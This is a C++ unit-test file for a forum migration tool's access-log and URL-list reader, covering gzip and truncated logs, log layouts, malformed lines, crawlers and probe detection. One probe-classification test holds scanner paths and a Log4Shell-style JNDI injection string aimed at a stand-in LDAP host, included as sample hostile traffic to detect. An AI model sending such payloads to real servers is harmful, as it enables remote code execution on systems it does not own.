// Reading the report's file inputs: access logs (plain, gzip, cut short, many files) and URL
// lists, with malformed lines counted and shown with file and line, never stopping the run.

#include "report/inputs.hpp"

#include "base/error.hpp"
#include "tests/support/test_db.hpp"

#include <gtest/gtest.h>

#include <map>
#include <string_view>

using namespace forumgate;
using namespace forumgate::report;
using forumgate::testing::temp_dir;
using forumgate::testing::write_gzip_file;

namespace {

std::string const OLD_HOST = "forum.cooperationbirmingham.org.uk";

/// A day of requests to the old forum: pages, a share link, Discourse's own polling, a POST,
/// a scanner, a proxy request and two lines no server writes.
std::string const LOG =
    "203.0.113.7 - - [10/Oct/2023:13:55:36 +0100] \"GET /t/agm-2023-minutes/774 HTTP/1.1\" 200 5123 \"-\" "
    "\"Mozilla/5.0\"\r\n"
    "203.0.113.8 - - [10/Oct/2023:13:55:37 +0100] \"GET /t/agm-2023-minutes/774 HTTP/1.1\" 200 5123 \"-\" "
    "\"Mozilla/5.0\"\r\n"
    "203.0.113.8 - - [10/Oct/2023:13:56:00 +0100] \"GET /assets/application-3f2a.js HTTP/1.1\" 200 90000 \"-\" "
    "\"Mozilla/5.0\"\n"
    "203.0.113.8 - - [10/Oct/2023:13:56:01 +0100] \"POST /message-bus/abc/poll HTTP/1.1\" 200 2 \"-\" \"Mozilla/5.0\"\n"
    "\n"
    "203.0.113.9 - - [11/Oct/2023:09:00:00 +0100] \"GET /t/agm-2023-minutes/774 HTTP/1.1\" 200 5123 \"-\" "
    "\"Mozilla/5.0\"\n"
    "this line is not in any log format\n"
    "203.0.113.9 - - [11/Oct/2023:09:00:01 +0100] \"GET /wp-login.php HTTP/1.1\" 404 150 \"-\" \"scanner\"\n"
    "203.0.113.9 - - [11/Oct/2023:09:00:02 +0100] \"-\" 400 0 \"-\" \"-\"\n"
    "203.0.113.9 - - [11/Oct/2023:09:00:03 +0100] \"GET http://www.forum.cooperationbirmingham.org.uk/u/alice "
    "HTTP/1.1\" 301 0 \"-\" \"-\"\n"
    "203.0.113.9 - - [11/Oct/2023:09:00:04 +0100] \"GET /t/cut-sho";

/// The tally as "host target" → hits.
std::map<std::string, std::uint64_t> hits_of(url_tally const &tally)
{
    std::map<std::string, std::uint64_t> out;
    for (std::size_t i = 0; i < tally.size(); ++i) {
        out[tally[i].host + " " + tally[i].target] = tally[i].hits;
    }
    return out;
}

void expect_day_one_log(url_tally const &tally, input_summary const &summary, std::string const &file)
{
    EXPECT_EQ(summary.log_lines, 11U);
    EXPECT_EQ(summary.log_requests, 5U);
    EXPECT_EQ(summary.skipped_internal, 1U); // /assets/…
    EXPECT_EQ(summary.skipped_method, 1U);   // the POST
    EXPECT_EQ(summary.skipped_no_request, 1U);
    EXPECT_EQ(summary.malformed, 2U);
    ASSERT_EQ(summary.malformed_examples.size(), 2U);
    EXPECT_EQ(summary.malformed_examples[0].file, file);
    EXPECT_EQ(summary.malformed_examples[0].line, 7U);
    EXPECT_EQ(summary.malformed_examples[0].text, "this line is not in any log format");
    EXPECT_EQ(summary.malformed_examples[1].line, 11U);
    EXPECT_NE(summary.malformed_examples[1].problem.find("no closing quote"), std::string::npos);
    auto const hits = hits_of(tally);
    EXPECT_EQ(hits, (std::map<std::string, std::uint64_t>{{" /t/agm-2023-minutes/774", 3},
                                                          {" /wp-login.php", 1},
                                                          {"www.forum.cooperationbirmingham.org.uk /u/alice", 1}}));
    // Per day: two hits on the 10th, one on the 11th.
    std::map<std::int32_t, std::uint64_t> days;
    tally.for_each_day(0, [&](std::int32_t day, std::uint64_t count) { days[day] += count; });
    ASSERT_EQ(days.size(), 2U);
    EXPECT_EQ(days.begin()->second, 2U);
    EXPECT_EQ(days.rbegin()->second, 1U);
}

} // namespace

// Represents one reading of inputs: a folder for the input files, the tally they go into and
// the summary of what they held.
class inputs : public ::testing::Test
{
protected:
    temp_dir dir;
    url_tally tally{OLD_HOST};
    input_summary summary;
};

TEST_F(inputs, reads_a_plain_access_log)
{
    auto const file = dir.write("access.log", LOG).string();
    read_access_log(file, tally, summary, {}, nullptr);
    expect_day_one_log(tally, summary, file);
}

TEST_F(inputs, reads_a_gzip_access_log_the_same)
{
    auto const file = (dir.path() / "access.log.1.gz").string();
    write_gzip_file(file, LOG);
    read_access_log(file, tally, summary, {}, nullptr);
    expect_day_one_log(tally, summary, file);
}

TEST_F(inputs, counts_internal_paths_when_asked)
{
    auto const file = dir.write("access.log", LOG).string();
    read_access_log(file, tally, summary, {nullptr, true, false}, nullptr);
    EXPECT_EQ(summary.skipped_internal, 0U);
    EXPECT_EQ(hits_of(tally).at(" /assets/application-3f2a.js"), 1U);
}

TEST_F(inputs, adds_up_many_logs)
{
    auto const plain = dir.write("access.log", LOG).string();
    auto const compressed = (dir.path() / "access.log.2.gz").string();
    write_gzip_file(compressed, LOG);
    read_access_log(plain, tally, summary, {}, nullptr);
    read_access_log(compressed, tally, summary, {}, nullptr);
    EXPECT_EQ(summary.log_lines, 22U);
    EXPECT_EQ(summary.malformed, 4U);
    EXPECT_EQ(summary.malformed_examples[2].file, compressed);
    EXPECT_EQ(hits_of(tally).at(" /t/agm-2023-minutes/774"), 6U);
}

TEST_F(inputs, a_cut_short_gzip_log_is_an_error_unless_allowed)
{
    // A rotated log copied while it was being compressed: the gzip stream stops mid-way. Read
    // silently, the figures would look whole and miss half the traffic.
    std::string big;
    for (int i = 0; i < 20000; ++i) {
        big += "203.0.113.7 - - [10/Oct/2023:13:55:36 +0100] \"GET /t/topic/" + std::to_string(i) +
               " HTTP/1.1\" 200 5123 \"-\" \"Mozilla/5.0\"\n";
    }
    auto const whole = dir.path() / "whole.gz";
    write_gzip_file(whole, big);
    std::string const bytes = forumgate::testing::read_file(whole);
    auto const file = dir.write("cut.log.gz", std::string_view{bytes}.substr(0, bytes.size() / 2)).string();

    try {
        read_access_log(file, tally, summary, {}, nullptr);
        FAIL() << "a cut-short gzip log was read without an error";
    } catch (input_error const &e) {
        std::string const message = e.what();
        EXPECT_TRUE(message.starts_with(file + ":")) << message;
        EXPECT_NE(message.find("cut short"), std::string::npos) << message;
        EXPECT_NE(message.find("--allow-truncated"), std::string::npos) << message;
    }

    url_tally allowed_tally{OLD_HOST};
    input_summary allowed;
    EXPECT_NO_THROW(read_access_log(file, allowed_tally, allowed, {nullptr, false, true}, nullptr));
    EXPECT_GT(allowed.log_requests, 1000U);
    EXPECT_LT(allowed.log_requests, 20000U);
    ASSERT_EQ(allowed.malformed, 1U);
    EXPECT_EQ(allowed.malformed_examples[0].file, file);
    EXPECT_EQ(allowed.malformed_examples[0].line, allowed.log_lines + 1);
    EXPECT_NE(allowed.malformed_examples[0].problem.find("cut short"), std::string::npos)
        << allowed.malformed_examples[0].problem;
}

TEST_F(inputs, names_the_layout_each_log_was_read_as)
{
    auto const combined = dir.write("access.log", LOG).string();
    auto const vhost =
        dir.write("other_vhosts_access.log",
                  "www.forum.cooperationbirmingham.org.uk:443 203.0.113.7 - - [10/Oct/2023:13:55:36 +0100] "
                  "\"GET /t/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n")
            .string();
    auto const custom = dir.write("custom.log", "2023-10-10T13:55:36+01:00 \"GET /t/774 HTTP/1.1\" 200\n").string();
    read_access_log(combined, tally, summary, {}, nullptr);
    read_access_log(vhost, tally, summary, {}, nullptr);
    log_format const format{R"($time_iso8601 "$request" $status)"};
    read_access_log(custom, tally, summary, {&format, false, false}, nullptr);
    ASSERT_EQ(summary.log_layouts.size(), 3U);
    EXPECT_EQ(summary.log_layouts[0].file, combined);
    EXPECT_EQ(summary.log_layouts[0].layout, "combined");
    EXPECT_EQ(summary.log_layouts[1].layout, "vhost_combined");
    EXPECT_EQ(summary.log_layouts[2].layout, "--log-format (nginx syntax)");
    // The virtual host is the Host the request came with; the custom layout's lines count.
    EXPECT_EQ(hits_of(tally).at("www.forum.cooperationbirmingham.org.uk /t/774"), 1U);
    EXPECT_EQ(hits_of(tally).at(" /t/774"), 1U);
}

TEST_F(inputs, sets_probes_apart_and_counts_crawlers)
{
    // Scanners and bots trying the server, and search engines asking for pages, among visits.
    std::string const log =
        "203.0.113.7 - - [10/Oct/2023:13:55:36 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n"
        "66.249.66.1 - - [10/Oct/2023:13:55:37 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"\n"
        "66.249.66.1 - - [10/Oct/2023:13:55:38 +0100] \"GET /t/old/999 HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"\n"
        "40.77.167.1 - - [10/Oct/2023:13:55:39 +0100] \"HEAD /t/old/999 HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0 "
        "(compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)\"\n"
        "198.51.100.1 - - [10/Oct/2023:13:56:00 +0100] \"GET /wp-login.php HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0\"\n"
        "198.51.100.1 - - [10/Oct/2023:13:56:01 +0100] \"POST /xmlrpc.php HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0\"\n"
        "198.51.100.2 - - [10/Oct/2023:13:56:02 +0100] \"GET //phpMyAdmin/ HTTP/1.1\" 404 5 \"-\" \"-\"\n"
        "198.51.100.3 - - [10/Oct/2023:13:56:03 +0100] \"CONNECT www.example.com:443 HTTP/1.1\" 400 0 \"-\" \"-\"\n"
        "198.51.100.3 - - [10/Oct/2023:13:56:04 +0100] \"GET http://www.baidu.com/ HTTP/1.1\" 404 0 \"-\" \"-\"\n"
        "198.51.100.4 - - [10/Oct/2023:13:56:05 +0100] \"GET /?x=${jndi:ldap://x.example/a} HTTP/1.1\" 404 5 \"-\" "
        "\"-\"\n"
        "198.51.100.5 - - [10/Oct/2023:13:56:06 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0 "
        "zgrab/0.x\"\n";
    auto const file = dir.write("access.log", log).string();
    std::vector<std::string> const old_hosts = {OLD_HOST};
    traffic_classifier const traffic{old_hosts};
    read_access_log(file, tally, summary, {nullptr, false, false, &traffic, false}, nullptr);
    EXPECT_EQ(summary.log_requests, 4U);
    EXPECT_EQ(summary.skipped_method, 0U); // the POST to xmlrpc.php is a probe
    EXPECT_EQ(summary.probe_requests(), 7U);
    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::scanner_path)], 3U);
    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::proxy)], 2U);
    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::exploit)], 1U);
    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::scanner_agent)], 1U);
    EXPECT_EQ(hits_of(tally), (std::map<std::string, std::uint64_t>{{" /t/agm/774", 2}, {" /t/old/999", 2}}));
    // Who asked: the crawlers, per URL.
    std::map<std::string, std::uint64_t> crawled;
    for (std::size_t i = 0; i < tally.size(); ++i) {
        tally.for_each_crawler(i, [&](std::uint8_t bot, std::uint64_t hits) {
            crawled[tally[i].target + " " + std::string{name(static_cast<crawler>(bot))}] += hits;
        });
    }
    EXPECT_EQ(crawled, (std::map<std::string, std::uint64_t>{
                           {"/t/agm/774 Googlebot", 1}, {"/t/old/999 Googlebot", 1}, {"/t/old/999 Bingbot", 1}}));

    // --count-probes: the GET and HEAD probes count like any request; the others are skipped.
    url_tally all{OLD_HOST};
    input_summary counted;
    counted.probes_counted = true;
    read_access_log(file, all, counted, {nullptr, false, false, &traffic, true}, nullptr);
    EXPECT_EQ(counted.probe_requests(), 7U);
    EXPECT_EQ(counted.log_requests, 9U);
    EXPECT_EQ(counted.skipped_method, 2U); // POST and CONNECT
    EXPECT_EQ(hits_of(all).at(" /wp-login.php"), 1U);
    EXPECT_EQ(hits_of(all).at("www.baidu.com /"), 1U);
}

TEST_F(inputs, an_unreadable_log_is_an_error_naming_it)
{
    try {
        read_access_log("/nonexistent/access.log", tally, summary, {}, nullptr);
        FAIL() << "no error";
    } catch (input_error const &e) {
        EXPECT_NE(std::string{e.what()}.find("/nonexistent/access.log: cannot open"), std::string::npos) << e.what();
    }
}

TEST_F(inputs, reads_url_lists)
{
    auto const file = dir.write("urls.txt", "# links from the co-op's newsletter\r\n"
                                            "/t/agm-2023-minutes/774\r\n"
                                            "\r\n"
                                            "  https://forum.cooperationbirmingham.org.uk/t/agm-2023-minutes/774  \n"
                                            "https://WWW.forum.cooperationbirmingham.org.uk:443/u/alice\n"
                                            "forum.cooperationbirmingham.org.uk/t/774\n"
                                            "ftp://forum.cooperationbirmingham.org.uk/x\n"
                                            "/latest")
                          .string();
    read_url_list(file, tally, summary);
    EXPECT_EQ(summary.list_urls, 4U);
    EXPECT_EQ(hits_of(tally),
              (std::map<std::string, std::uint64_t>{{" /t/agm-2023-minutes/774", 0},
                                                    {"www.forum.cooperationbirmingham.org.uk /u/alice", 0},
                                                    {" /latest", 0}}));
    ASSERT_EQ(summary.malformed, 2U);
    EXPECT_EQ(summary.malformed_examples[0].file, file);
    EXPECT_EQ(summary.malformed_examples[0].line, 6U);
    EXPECT_EQ(summary.malformed_examples[1].line, 7U);
    EXPECT_NE(summary.malformed_examples[0].problem.find("neither a path"), std::string::npos);
}

TEST_F(inputs, keeps_only_the_first_malformed_lines)
{
    std::string junk;
    for (int i = 0; i < 50; ++i) {
        junk += "junk line " + std::to_string(i) + "\n";
    }
    auto const file = dir.write("junk.log", junk).string();
    read_access_log(file, tally, summary, {}, nullptr);
    EXPECT_EQ(summary.malformed, 50U);
    ASSERT_EQ(summary.malformed_examples.size(), MAX_MALFORMED_EXAMPLES);
    EXPECT_EQ(summary.malformed_examples.back().line, MAX_MALFORMED_EXAMPLES);
    EXPECT_EQ(tally.size(), 0U);
}

TEST_F(inputs, knows_discourse_machinery_from_pages)
{
    for (std::string_view const path :
         {"/assets/application-3f2a.js", "/message-bus/abc/poll", "/stylesheets/desktop_theme_1.css"}) {
        EXPECT_TRUE(is_internal_path(path)) << path;
    }
    for (std::string_view const path : {"/t/assets/5", "/latest", "/uploads/default/original/1X/abc.png"}) {
        EXPECT_FALSE(is_internal_path(path)) << path;
    }
}
